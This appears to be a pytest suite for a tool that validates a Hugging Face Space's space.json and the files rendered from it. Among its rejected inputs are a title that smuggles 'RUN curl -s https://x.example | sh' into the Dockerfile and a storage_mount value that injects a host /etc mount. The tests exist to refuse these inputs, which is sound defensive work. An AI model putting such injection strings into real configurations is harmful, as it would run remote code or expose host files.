"""One source of a Space's settings: space.json holds every answer its consumers read; the files rendered from
the same answers agree with it, and when someone edits one of them by hand, `check` (and deploy) name the file,
the setting and the fix, in one line each."""

from __future__ import annotations

import itertools
import json
import re
from pathlib import Path

import pytest
from space_tools import config, derived_files
from space_tools.errors import SpaceError

from tests.conftest import space_tools
from tests.test_validators import control_characters

RUNTIMES = ["python", "node"]
PRESTART_ONE_LINE = "prestart must be one line (join commands with &&, or run a script)."


def _settings(project: Path) -> dict:
    return json.loads((project / "space.json").read_text())


def _edit(project: Path, relative: str, old: str, new: str) -> None:
    path = project / relative
    text = path.read_text()
    assert old in text, f"{relative} has no {old!r}"
    path.write_text(text.replace(old, new, 1))


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_every_consumer_reads_the_same_settings(render, runtime):
    project = render(runtime=runtime, app_port=8123, health_path="/live", startup_duration_timeout="45m")
    settings = _settings(project)
    loaded = config.load(project)

    assert (loaded.app_port, loaded.health_path, loaded.startup_timeout_s) == (8123, "/live", 45 * 60)
    assert [var.name for var in loaded.variables()] == list(settings["variables"])
    front = loaded.front_matter()
    assert (front["app_port"], front["startup_duration_timeout"]) == (8123, "45m")
    assert "EXPOSE 8123" in (project / "Dockerfile").read_text()
    assert derived_files.drift(loaded) == []
    assert "on port 8123, health /live" in space_tools(project, "check").stdout


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_the_image_reads_space_json_and_no_rendered_copy_of_it(render, runtime):
    project = render(runtime=runtime)
    wrapper = {p.name: p.read_text() for p in (project / "space_serve").rglob("*") if p.is_file()}
    settings = wrapper["settings.py" if runtime == "python" else "settings.mjs"]

    assert "space.json" in settings
    assert not [name for name, text in wrapper.items() if "{{" in text or "{%" in text]
    assert not (project / "space_serve" / "settings.py.jinja").exists()
    dockerfile = (project / "Dockerfile").read_text()
    assert re.search(r"^COPY space\.json /(opt/space|src)/$", dockerfile, re.M), "the image gets the one file"
    assert "!space.json" in (project / ".dockerignore").read_text().splitlines()
    assert "ENV PORT" not in dockerfile and "PORT=" not in dockerfile, "the port's default comes from space.json"


# (file, text as rendered, the hand edit, what check says)
HAND_EDITS = {
    "front matter port": ("README.md", "app_port: 7860", "app_port: 8080",
                          "README.md front matter: app_port is 8080 but space.json's app_port is 7860"),
    "front matter title": ("README.md", 'title: "Demo"', 'title: "Other"',
                           "README.md front matter: title is \"Other\" but space.json's space_title is \"Demo\""),
    "dockerfile port": ("Dockerfile", "EXPOSE 7860", "EXPOSE 9000",
                        "Dockerfile: `EXPOSE 9000` but space.json's app_port is 7860"),
    "env example default": (".env.example", "APP_NAME=Starter API", "APP_NAME=Mine",
                            ".env.example: APP_NAME=Mine but its default in space.json is \"Starter API\""),
    "env example extra": (".env.example", "APP_NAME=Starter API", "APP_NAME=Starter API\nEXTRA=1",
                          ".env.example lists EXTRA, which space.json does not declare"),
    "readme variable": ("README.md", "- `APP_NAME` (Variable, optional, default `Starter API`)",
                        "- `APP_NAME` (Secret, required)", "README.md lists APP_NAME otherwise than space.json"),
}


@pytest.mark.parametrize("edit", HAND_EDITS)
def test_a_hand_edited_derived_file_is_named_by_check(render, edit):
    relative, old, new, message = HAND_EDITS[edit]
    project = render(runtime="python", space_name="demo", space_title="Demo")
    _edit(project, relative, old, new)

    result = space_tools(project, "check", check=False)

    assert result.returncode == 2, result.stdout
    assert result.stderr.startswith("error: space.json and the files rendered from it disagree:")
    assert message in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


def test_a_secret_given_a_value_in_env_example_is_named_without_the_value(render):
    project = render(runtime="python", env_vars={"API_KEY": {"secret": True, "required": True, "help": "Key."}})
    _edit(project, ".env.example", "API_KEY=", "API_KEY=sk-live-do-not-commit")

    result = space_tools(project, "check", check=False)

    assert result.returncode == 2
    assert ".env.example gives API_KEY a value, but it is a Secret and .env.example is committed" in result.stderr
    assert "sk-live-do-not-commit" not in result.stdout + result.stderr


def test_a_variable_declared_in_space_json_is_asked_for_in_the_derived_files(render):
    project = render(runtime="python")
    settings = _settings(project)
    settings["variables"]["MAIL_FROM"] = {"secret": False, "required": False, "default": "a@b.c", "help": "Sender."}
    (project / "space.json").write_text(json.dumps(settings, indent=2))

    result = space_tools(project, "check", check=False)

    assert ".env.example lacks MAIL_FROM, which space.json declares: add the line `# MAIL_FROM=a@b.c`." in result.stderr
    assert "README.md's environment variables lack MAIL_FROM: add `- `MAIL_FROM` (Variable, optional, default " \
           "`a@b.c`): Sender.`." in result.stderr


def test_an_owner_who_drops_the_readme_variables_section_is_not_nagged(render):
    project = render(runtime="python")
    readme = (project / "README.md").read_text()
    start, end = readme.index("## Environment variables"), readme.index("## Deploy")
    (project / "README.md").write_text(readme[:start] + readme[end:])

    assert space_tools(project, "check").returncode == 0


@pytest.mark.parametrize(("change", "message"), [
    ({"app_port": "7860"}, 'app_port must be a whole number, not "7860".'),
    ({"app_port": 80}, "Port 80 is not usable: the app runs as uid 1000"),
    ({"health_path": "/"}, "would answer in place of the app's home page"),
    ({"variables": {"lower": {"secret": False, "required": False, "default": "", "help": ""}}},
     "lower is not an environment variable name"),
    ({"variables": {"KEY": {"secret": True, "required": True, "default": "abc", "help": ""}}},
     "KEY is a secret: it can't have a default"),
    ({"variables": {"KEY": {"secret": True}}}, "variables.KEY: give an object with exactly secret, required"),
    ({"space_title": "Demo\nRUN curl -s https://x.example | sh"}, control_characters("space_title")),
    ({"space_owner": "not/valid"}, '"not/valid" is not a valid Hugging Face user or organization name.'),
    ({"space_title": " "}, "The title can't be empty."),
    ({"short_description": "x" * 61}, "The short description has 61 characters; Spaces accepts at most 60."),
    ({"emoji": "rocket"}, '"rocket" is not a single emoji.'),
    ({"license": "MIT License"}, '"MIT License" is not a license id like mit or apache-2.0.'),
    ({"base_path": "docs"}, '"docs" is not a URL path starting with /.'),
    ({"startup_duration_timeout": "30 minutes"}, '"30 minutes" is not a duration like 30m or 1h.'),
    ({"hardware": "gpu"}, "Invalid choice for 'hardware': 'gpu' is not in ['cpu-basic', 'cpu-upgrade',"),
    ({"visibility": "hidden"}, "Invalid choice for 'visibility': 'hidden' is not in ['public', 'protected', 'private']"),
    ({"color_from": "orange"}, "Invalid choice for 'color_from': 'orange' is not in ['red', 'yellow',"),
    ({"python_version": "3.9"}, '"3.9" is not a Python the template offers (3.10, 3.11, 3.12, 3.13, 3.14, or a'),
    ({"storage": "disk"}, "Invalid choice for 'storage': 'disk' is not in ['none', 'bucket', 'external']"),
    ({"dev_mode": "yes"}, 'dev_mode must be true or false, not "yes".'),
    ({"extras": "postgres"},
     'extras must be a list of the backend\'s optional extras like ["postgres"], not "postgres".'),
])
def test_a_hand_edit_of_space_json_is_checked_by_the_rules_copier_applies(render, change, message):
    project = render(runtime="python")
    (project / "space.json").write_text(json.dumps({**_settings(project), **change}, indent=2))

    result = space_tools(project, "check", check=False)

    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("error: space.json: ") and message in result.stderr, result.stderr


def test_the_auth_server_keeps_its_signing_secret_required(render):
    project = render(runtime="node")
    settings = _settings(project)
    settings["variables"]["BETTER_AUTH_SECRET"]["required"] = False
    (project / "space.json").write_text(json.dumps(settings, indent=2))

    result = space_tools(project, "check", check=False)

    assert "variables.BETTER_AUTH_SECRET must stay a required secret" in result.stderr


def test_deploy_refuses_a_front_matter_that_disagrees_with_space_json(hub, make_space, cli):
    repo = make_space(app_port=7860)
    _edit(repo.root, "README.md", "app_port: 7860", "app_port: 8080")

    result = cli(repo, "deploy", "--poll-interval", "0.1", "--yes", hub=hub)

    assert result.returncode == 2
    assert "README.md front matter: app_port is 8080 but space.json's app_port is 7860" in result.output
    assert hub.mutating_requests() == []


def _bucket_space(render, runtime: str) -> Path:
    """A Space with every setting space.json can hold: sign-in on, storage=bucket."""
    more = {"sqlite_files": ["/home/user/data/notes.db"]} if runtime == "python" else {}
    return render(runtime=runtime, storage="bucket", hf_oauth=True, **more)


# (the hand edit, what check says of it), on a Python Space with storage=bucket.
STORAGE_HAND_EDITS = [
    ({"storage_mount": "/data,source=/etc,readonly=false"},
     ('storage_mount "/data,source=/etc,readonly=false" is not a folder path in the container like /data: absolute '
      "and normalized, of letters, digits, '.', '_' and '-' (no '..', comma, quote or space).")),
    ({"storage_mount": "/data/../etc"}, 'storage_mount "/data/../etc" is not a folder path in the container'),
    ({"storage_mount": "/etc"},
     "storage_mount \"/etc\" would hide the image's own /etc: mount the bucket on a folder of its own, such as /data."),
    ({"storage_mount": "/usr/local/data"}, "storage_mount \"/usr/local/data\" would hide the image's own /usr"),
    ({"sqlite_files": "/home/user/data/notes.db"}, "storage=bucket needs sqlite_files: a list like"),
    ({"sqlite_files": ["notes.db"]}, "notes.db is not an absolute path in the container, nor $NAME."),
    ({"sqlite_files": ["/data/notes.db"]},
     "/data/notes.db is on the bucket itself (/data): a live SQLite file must stay on local disk."),
    ({"sqlite_files": ["$NOTES_DB"]}, "$NOTES_DB: NOTES_DB is not in env_vars; declare it there"),
    ({"snapshot_interval": 0}, "snapshot_interval must be 1-3600 seconds, got 0."),
    ({"snapshot_interval": "5"}, 'snapshot_interval must be 1-3600 seconds, got "5".'),
    ({"storage_bucket": "data"}, '"data" is not a bucket id like owner/name.'),
    ({"storage_bucket": "alice/notes/data"}, '"alice/notes/data" is not a bucket id like owner/name.'),
]


@pytest.mark.parametrize(("change", "message"), STORAGE_HAND_EDITS, ids=[m[:40] for _, m in STORAGE_HAND_EDITS])
def test_a_hand_edit_of_the_storage_settings_is_checked_by_the_rules_copier_applies(render, change, message):
    project = render(runtime="python", storage="bucket", sqlite_files=["/home/user/data/notes.db"])
    (project / "space.json").write_text(json.dumps({**_settings(project), **change}, indent=2))

    result = space_tools(project, "check", check=False)

    assert result.returncode == 2 and len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("error: space.json: ") and message in result.stderr, result.stderr


def _texts(value, path: tuple = ()):
    """Where space.json holds text: a string, or a list of them (each key path)."""
    if isinstance(value, (str, list)):
        yield path
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _texts(item, (*path, key))


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_no_text_of_space_json_may_hold_a_line_break_a_tab_or_another_control_character(render, runtime):
    project = _bucket_space(render, runtime)
    written = (project / "space.json").read_text()
    texts = list(_texts(json.loads(written)))
    assert {("space_title",), ("storage_mount",), ("sqlite_files",), ("variables", "BETTER_AUTH_URL", "help")
            if runtime == "node" else ("variables", "WEB_CONCURRENCY", "help")} <= set(texts)

    for path, character in zip(texts, itertools.cycle(["\n", "\r", "\t", "\x00", "\x1b", "\x85", "\u2028"])):
        settings = json.loads(written)
        *parents, key = path
        holder = settings
        for parent in parents:
            holder = holder[parent]
        holder[key] = [*holder[key], f"x{character}"] if isinstance(holder[key], list) else holder[key] + character
        (project / "space.json").write_text(json.dumps(settings))

        with pytest.raises(SpaceError) as refused:
            config.load(project)

        one_line = PRESTART_ONE_LINE if path == ("prestart",) and character in "\r\n" else None  # its own words
        assert str(refused.value) == f"space.json: {one_line or control_characters('.'.join(path))} {config.FIX}"
